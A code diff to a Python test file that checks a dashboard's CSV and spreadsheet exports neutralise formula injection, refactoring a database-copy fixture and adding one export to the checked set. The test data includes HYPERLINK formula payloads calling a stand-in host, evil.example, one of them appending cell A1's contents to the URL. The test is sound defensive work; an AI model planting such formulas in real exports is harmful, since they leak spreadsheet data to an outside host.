@@ -12,7 +12,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import shutil
 
 import numpy as np
 import openpyxl
@@ -30,7 +29,7 @@ from ingest.errors import IngestError
 from store import schema
 from store.export_safety import FORMULA_STARTS, PLAIN_NUMBER, neutralise_formulas
 from tests.conftest import BEIJING_SITES, ROOT, TEST_DATA
-from tests.dash_helpers import TEST_CITY_SITE, staff_client
+from tests.dash_helpers import TEST_CITY_SITE, sqlite_copy, staff_client
 
 EVIL_STATION_ZH = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 EVIL_STATION_EN = '=HYPERLINK("http://evil.example","click")'
@@ -122,16 +121,15 @@ def evil_app(demo_db_url, tmp_path_factory):
     """The dashboard on a copy of the demo database whose names are formulas."""
     from dashboard.app import create_app
     from store.db import make_engine
-    path = tmp_path_factory.mktemp("formulas") / "demo.sqlite"
-    shutil.copy(demo_db_url.split("///", 1)[1], path)
-    engine = make_engine(f"sqlite:///{path}")
+    url = sqlite_copy(demo_db_url, tmp_path_factory.mktemp("formulas"))
+    engine = make_engine(url)
     with engine.begin() as conn:
         conn.execute(update(schema.stations).values(name_zh=EVIL_STATION_ZH,
                                                     name_en=EVIL_STATION_EN))
         conn.execute(update(schema.districts).values(name_zh=EVIL_DISTRICT_ZH,
                                                      name_en=EVIL_DISTRICT_EN))
     engine.dispose()
-    return create_app(f"sqlite:///{path}", cache_url="")
+    return create_app(url, cache_url="")
 
 
 def csv_cells(data: bytes) -> list[str]:
@@ -155,7 +153,7 @@ def test_the_export_registry_is_filled():
 
 
 # Exports whose rows show station or district names (the neutraliser must have acted there).
-SHOW_NAMES = {"map", "ranking", "district-ledger", "exceedances"}
+SHOW_NAMES = {"map", "ranking", "district-ledger", "exceedances", "objectives"}
 
 
 @pytest.mark.parametrize("name", sorted(EXPORTS))
